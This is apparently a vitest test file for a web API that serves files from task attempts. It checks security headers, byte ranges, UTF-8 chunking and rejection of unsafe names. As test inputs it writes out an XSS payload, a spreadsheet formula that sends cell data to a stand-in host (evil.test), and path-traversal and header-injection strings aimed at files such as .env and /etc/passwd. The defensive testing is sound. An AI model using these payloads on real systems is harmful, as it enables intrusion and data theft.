import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ArtifactName } from '../files/attempt-folder.ts';
import { type Browser, TestPage } from '../testing/page.ts';

const hostile = '<!doctype html><script>alert(1)</script><svg onload=alert(1)>';
const words = 'aä€😀b'.repeat(3);

describe('files of an attempt', () => {
  let page: TestPage;
  let browser: Browser;
  beforeEach(async () => {
    page = await TestPage.make({
      files: {
        'plan.md': hostile,
        'diffs/a.patch': '0123456789',
        words,
        'no-text': Buffer.from([0x61, 0xff, 0xfe, 0x62]),
        'artifacts/0': '<html>',
      },
    });
    browser = await page.signIn();
  });
  afterEach(() => page[Symbol.asyncDispose]());

  const at = (kind: 'files' | 'download', name: string) => `/api/tasks/t1/attempts/1/${kind}/${name}`;

  it('W16 are text to be saved, whatever is in them', async () => {
    const answer = await browser.get(at('download', 'plan.md'));
    expect(answer.text).toBe(hostile);
    expect(answer.headers).toMatchObject({
      'content-type': 'text/plain; charset=utf-8',
      'content-disposition': 'attachment; filename="t1-1-plan.md"',
      'content-security-policy': "sandbox; default-src 'none'; frame-ancestors 'none'",
      'x-content-type-options': 'nosniff',
      'cache-control': 'no-store',
      'cross-origin-resource-policy': 'same-origin',
    });
  });

  it('W26 are under names that no spreadsheet opens, for a cell may begin with =', async () => {
    const formula = '=HYPERLINK("http://evil.test/?"&A1)';
    await using sheet = await TestPage.make({ files: { 'artifacts/0': formula } });
    const reader = await sheet.signIn();
    const answer = await reader.get(at('download', 'artifacts/0'));
    expect(answer.text).toBe(formula);
    expect(answer.headers).toMatchObject({
      'content-type': 'text/plain; charset=utf-8',
      'content-disposition': 'attachment; filename="t1-1-artifacts_0"',
    });
    for (const name of ['artifacts/0.csv', 'artifacts/table.xlsx', 'result.csv', 'diffs/a.csv', 'plan.csv'])
      expect([name, ArtifactName.safeParse(name).success]).toEqual([name, false]);
  });

  it('come in parts, by where they begin and how many bytes are wanted', async () => {
    const part = await browser.get(`${at('download', 'diffs/a.patch')}?start=3&bytes=4`);
    expect([part.text, part.headers['content-length'], part.headers['x-countersign-bytes']]).toEqual([
      '3456',
      '4',
      '10',
    ]);
    expect((await browser.get(`${at('download', 'diffs%2Fa.patch')}?start=8`)).text).toBe('89');
    const ranged = await browser.get(at('download', 'diffs/a.patch')).set('range', 'bytes=0-0,0-0,0-0');
    expect([ranged.status, ranged.text]).toEqual([200, '0123456789']);
    for (const query of ['?start=-1', '?start=x', '?bytes=0', '?start=1&start=2', '?start=1e99'])
      expect((await browser.get(at('download', 'diffs/a.patch') + query)).status).toBe(400);
  });

  it.each([
    '../task.json',
    '..%2ftask.json',
    '%2e%2e/task.json',
    '%2fetc%2fpasswd',
    'plan.md%00.txt',
    '.env',
    'diffs/.git/config',
    'diffs/../plan.md',
    'diffs//a.patch',
    'diffs%5ca.patch',
    'plan.md%0d%0aset-cookie:x=y',
    'plan%22.md',
    '%EF%BC%8E%EF%BC%8E/plan.md',
    'x'.repeat(2_000),
    '',
  ])('W16 no other file is given by a name that leads elsewhere: %s', async (name) => {
    for (const kind of ['files', 'download'] as const) {
      const answer = await browser.get(at(kind, name));
      expect([400, 404]).toContain(answer.status);
      expect(answer.body).toHaveProperty('error');
    }
  });

  it('are read in pieces of whole characters that fit together, from whichever byte', async () => {
    const bytes = Buffer.from(words);
    for (let from = 0; from <= bytes.length; from += 1) {
      const { body } = await browser.get(`${at('files', 'words')}?from=${from}`);
      expect(body.text).not.toContain('\ufffd');
      expect(body.text).toBe(bytes.subarray(body.from, body.to).toString());
      expect(body.from - from).toBeLessThanOrEqual(3);
      expect([body.to, body.bytes]).toEqual([bytes.length, bytes.length]);
    }
  });

  it('are read from their end', async () => {
    expect((await browser.get(`${at('files', 'diffs/a.patch')}?from=-4`)).body).toEqual({
      bytes: 10,
      from: 6,
      to: 10,
      text: '6789',
    });
    expect((await browser.get(`${at('files', 'diffs/a.patch')}?from=-400`)).body.from).toBe(0);
  });

  it('that are no text are shown as far as they are', async () => {
    const { body } = await browser.get(at('files', 'no-text'));
    expect(body.text).toBe('a\ufffd\ufffdb');
  });

  it('of more than a piece end at a whole character', async () => {
    const long = '€'.repeat(400_000);
    await using large = await TestPage.make({ files: { long } });
    const reader = await large.signIn();
    const first = (await reader.get(at('files', 'long'))).body;
    const second = (await reader.get(`${at('files', 'long')}?from=${first.to}`)).body;
    expect(first.text + second.text).toBe(long);
    expect([second.from, second.to]).toEqual([first.to, first.bytes]);
    expect((await reader.get(at('download', 'long'))).text).toBe(long);
    const part = await reader.get(`${at('download', 'long')}?start=3&bytes=1100000`);
    expect(part.headers['content-length']).toBe('1100000');
  });
});
